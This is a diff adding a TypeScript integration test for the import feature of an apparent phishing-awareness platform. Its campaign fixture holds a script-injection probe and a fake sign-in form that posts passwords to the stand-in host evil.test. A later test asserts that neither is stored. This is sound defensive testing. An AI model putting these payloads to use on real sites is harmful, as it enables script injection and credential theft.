@@ -1,0 +1,166 @@
+import { setTimeout as sleep } from "node:timers/promises";
+import type { FastifyInstance } from "fastify";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { features } from "../../features.ts";
+import { recount } from "../../features/insight/index.ts";
+import { createOrganisation } from "../../features/organisations/index.ts";
+import { testEnv } from "../../kit/db/testing.ts";
+import type { TestEnv } from "../../kit/db/testing.ts";
+import { newId } from "../../kit/id.ts";
+import { startReaders } from "../../kit/ledger/index.ts";
+import { testApi } from "./testing.ts";
+
+// From another tool's campaign to this one's numbers: imports, people, lures, campaigns, tracking and insight together.
+
+let t: TestEnv;
+let app: FastifyInstance;
+let stop: () => Promise<void>;
+const org = newId();
+const canary = "Typed-By-A-Person-77";
+const people = Array.from({ length: 40 }, (_, n) => `person${n}@acme.example`);
+
+const event = (email: string, minute: number, message: string, details = "") => ({
+  email,
+  time: new Date(Date.UTC(2025, 2, 3, 9, minute)).toISOString(),
+  message,
+  details,
+});
+const campaign = {
+  name: "Spring",
+  created_date: "2025-03-03T08:00:00Z",
+  launch_date: "2025-03-03T09:00:00Z",
+  completed_date: "2025-03-10T09:00:00Z",
+  template: {
+    name: "Parcel",
+    envelope_sender: "Parcels <info@parcels.example>",
+    subject: "Your parcel, {{.FirstName}}",
+    text: "",
+    html: '<p>Hello {{.FirstName}}</p><p><a href="{{.URL}}">Track</a></p>{{.Tracker}}<script>alert(1)</script>',
+    attachments: [],
+  },
+  page: {
+    name: "Sign in",
+    html: '<form action="https://evil.test"><input name="user"><input type="password" name="pw"><button>Go</button></form>',
+    capture_credentials: true,
+  },
+  results: people.map((email) => ({ email, first_name: "Pat", last_name: "Doe", position: "Clerk", reported: false })),
+  timeline: people.flatMap((email, n) => [
+    n === 39
+      ? event(email, 1, "Error Sending Email", JSON.stringify({ error: "550 unknown" }))
+      : event(email, 1, "Email Sent"),
+    ...(n < 12 ? [event(email, 5 + n, "Email Opened"), event(email, 6 + n, "Clicked Link")] : []),
+    ...(n < 4
+      ? [event(email, 8 + n, "Submitted Data", JSON.stringify({ payload: { user: [email], pw: [canary] } }))]
+      : []),
+    ...(n >= 30 && n < 39 ? [event(email, 3 + n, "Email Reported")] : []),
+  ]),
+};
+
+beforeAll(async () => {
+  t = await testEnv({ jobs: features.flatMap((one) => one.jobs ?? []) });
+  await t.database.tx(org, (db) => createOrganisation(db, { id: org, name: "Acme", plan: "enterprise" }));
+  app = await testApi(t.env, { owner: { org } });
+  stop = await startReaders(
+    t.env,
+    features.flatMap((one) => one.reactions ?? []),
+    20,
+  );
+});
+afterAll(async () => {
+  await stop?.();
+  await app?.close();
+  await t?.close();
+});
+
+const get = async (path: string) =>
+  (await app.inject({ method: "GET", url: `/api/v1${path}`, headers: { authorization: "Bearer owner" } })).json();
+
+async function send(payload: string, type: string) {
+  const answer = await app.inject({
+    method: "POST",
+    url: "/api/v1/imports/gophish?name=Sales",
+    payload,
+    headers: { authorization: "Bearer owner", "content-type": type },
+  });
+  expect(answer.statusCode).toBe(202);
+  await t.env.jobs.settle();
+  const { job } = answer.json();
+  const report = await app.inject({
+    method: "GET",
+    url: `/api/v1/jobs/${job}/report`,
+    headers: { authorization: "Bearer owner" },
+  });
+  return { work: await get(`/jobs/${job}`), report: report.body };
+}
+
+describe("a campaign brought along", () => {
+  it("becomes people, a lure and a finished campaign with the same numbers", async () => {
+    const { work, report } = await send(JSON.stringify(campaign), "application/json");
+    expect(work, report).toMatchObject({ state: "done" });
+    const [found] = (await get("/campaigns")).items;
+    expect(found).toMatchObject({ name: "Spring", state: "ended", recipients: 40 });
+    for (let tries = 0; tries < 100 && (await get(`/campaigns/${found.id}/summary`)).reported.person < 9; tries++)
+      await sleep(30);
+    const summary = await get(`/campaigns/${found.id}/summary`);
+    expect(summary).toMatchObject({
+      sent: 40,
+      bounced: 1,
+      delivered: 39,
+      clicked: { raw: 12, person: 12, machine: 0, unverified: 0 },
+      submitted: { person: 4 },
+      reported: { person: 9 },
+      lessonsAssigned: 0,
+    });
+    expect(summary.secondsToFirstReport).toBe(32 * 60);
+    expect(summary.reportBeforeFirstClick).toBe(false);
+  });
+
+  it("keeps counts that a full recount confirms", async () => {
+    const [found] = (await get("/campaigns")).items;
+    const { kept, counted } = await t.database.tx(org, (db) => recount(db, org, found.id));
+    expect(kept.length).toBeGreaterThan(0);
+    expect(kept).toEqual(counted);
+  });
+
+  it("holds nothing that was typed, no script and no field name", async () => {
+    const stored = JSON.stringify(
+      await Promise.all(
+        ["hits", "facts", "tracking_outcomes", "lure_versions", "work", "work_lines"].map((table) =>
+          t.look(`SELECT x::text FROM ${table} x`),
+        ),
+      ),
+    );
+    for (const gone of [canary, "alert(1)", 'name=\\\\"pw', "evil.test"]) expect(stored).not.toContain(gone);
+  });
+
+  it("taken twice makes no second person", async () => {
+    const before = await t.look("SELECT count(*) FROM people");
+    await send(
+      JSON.stringify({
+        name: "Sales",
+        targets: people
+          .slice(0, 5)
+          .map((email) => ({ email: email.toUpperCase(), first_name: "Pat", last_name: "Doe", position: "Clerk" })),
+      }),
+      "application/json",
+    );
+    expect(await t.look("SELECT count(*) FROM people")).toEqual(before);
+  });
+});
+
+describe("a groups CSV", () => {
+  it("tells every row, the refused ones with the reason", async () => {
+    const { work, report } = await send(
+      "First Name;Last Name;Email;Position\nAnn;B;Ann@Acme.example;Clerk\nBo;C;not an address;\n",
+      "text/csv",
+    );
+    expect(work.result).toMatchObject({ added: 1, refused: 1 });
+    expect(report).toContain("not an address");
+  });
+
+  it("that is something else altogether is told, not half taken", async () => {
+    const { work } = await send("\u0000\u0001\u0002 nonsense", "application/octet-stream");
+    expect(work.state).toBe("done");
+    expect(work.result.refused).toBeGreaterThan(0);
+  });
+});
